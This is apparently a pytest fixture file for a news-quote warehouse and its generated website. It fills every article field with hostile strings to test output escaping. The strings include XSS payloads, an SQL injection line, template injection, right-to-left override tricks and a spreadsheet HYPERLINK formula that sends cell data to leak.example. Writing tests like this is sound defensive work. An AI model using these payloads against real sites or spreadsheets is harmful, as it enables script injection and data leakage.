"""A warehouse of hostile articles, and the site made of it."""

import importlib.util
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import pytest

from hearsay.site import write_site
from pipeline.ids import stable_id
from pipeline.records import Rejection
from warehouse.connection import Warehouse

HOSTILE = (
    "<script>document.title='pwned'</script>",
    "</title></style></script><img src=x onerror=\"document.title='pwned'\">",
    "\"><svg onload=document.title='pwned'>",
    "javascript:document.title='pwned'",
    "'; drop table articles; --",
    "{{ 7 * 7 }}{% for x in y %}",
    "=HYPERLINK(\"http://leak.example/?\"&A1,\"open\")",
    "bell \x07 null \x00 escape \x1b[31m delete \x7f next line \x85",
    "right to left \u202egnp.exe\u202c and \u2066isolated\u2069",
    "w" * 3_000,
    "<!-- comment --!> ]]> &amp; &#60;b&#62; <b>",
    "مرحبا \u05e9\u05dc\u05d5\u05dd and back",
    "new\nline\ttab",
    "🚧\ufffe\ufdd0\U0001f468\u200d\U0001f469",
)


def _made():
    """Return what makes articles and rows: the fixtures of the warehouse's tests."""
    path = Path(__file__).parents[1] / "warehouse" / "conftest.py"
    spec = importlib.util.spec_from_file_location("warehouse_conftest", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


@pytest.fixture(scope="session")
def make():
    return _made()


def hostile_article(make, number, text):
    """Return an article whose every value is hostile, and its rows."""
    person, group = f"Ann {text}", f"Guild {number} of {text}"
    body = (
        f"{person} said the bridge {text} is closed.\n\nTwo officials {text} told us the bill {text} is dead.\n\n"
        f"{group} denied all of this: {text}. The end."
    )
    article = make.make_article(
        body, url=f"https://news.example/{number}", outlet=f"Outlet {number % 3} {text}", title=f"{text} {number}",
        published_at=make.NOON + timedelta(days=number), wire_credit=text, source_document=f"folder/{text}#{number}",
    )
    article = replace(article, byline=text, url=f"javascript:{text}", correction=text, update_note=text)
    rows = make.make_rows(
        article, names=[(person, "PERSON", person), (group, "ORG", group)],
        quotes=[
            {"content": f"the bridge {text} is closed", "source": person, "cue": "said", "speaker": person},
            {"content": f"the bill {text} is dead", "source": f"Two officials {text}", "cue": "told us",
             "anonymous": True},
            {"content": f"all of this: {text}", "source": group, "cue": "denied", "speaker": group,
             "stance": "denies", "speaker_kind": "organisation"},
        ],
    )
    inner = replace(rows.quotes[0], parent_quote_id=rows.quotes[2].quote_id)
    return article, replace(rows, quotes=(inner, *rows.quotes[1:]))


@pytest.fixture(scope="session")
def hostile_warehouse(tmp_path_factory, make) -> Path:
    """Return a warehouse of articles, speakers, outlets, claims and rejections that try to do harm."""
    warehouse = Warehouse(tmp_path_factory.mktemp("hostile") / "news.duckdb")
    warehouse.create_schema()
    loaded = [hostile_article(make, number, text) for number, text in enumerate(HOSTILE)]
    claim = "the dam of the valley is safe"
    for number, (speaker, stance) in enumerate((("Eve Stone", "asserts"), ("Adam Reed", "denies")), 50):
        article = make.make_article(
            f"{speaker} spoke of {claim}, {HOSTILE[0]} and more.", url=f"https://news.example/{number}",
            outlet=f"Paper {number}", published_at=make.NOON + timedelta(days=number),
        )
        quote = {"content": claim, "source": speaker, "cue": "spoke", "speaker": speaker, "stance": stance}
        loaded.append((article, make.make_rows(article, names=[(speaker, "PERSON", speaker)], quotes=[quote])))
    rejections = [
        Rejection(
            rejection_id=stable_id("rejection", text), stage="ingest", reason=f"reason {text}", detail=text,
            source_document=f"folder/{text}", article_id=None, table_name=None, input=text,
        )
        for text in HOSTILE
    ]
    make.load(warehouse, loaded, rejections=rejections)
    return warehouse.path


@pytest.fixture(scope="session")
def site(hostile_warehouse, tmp_path_factory) -> Path:
    """Return the folder of its site."""
    return write_site(hostile_warehouse, tmp_path_factory.mktemp("site") / "hostile").folder
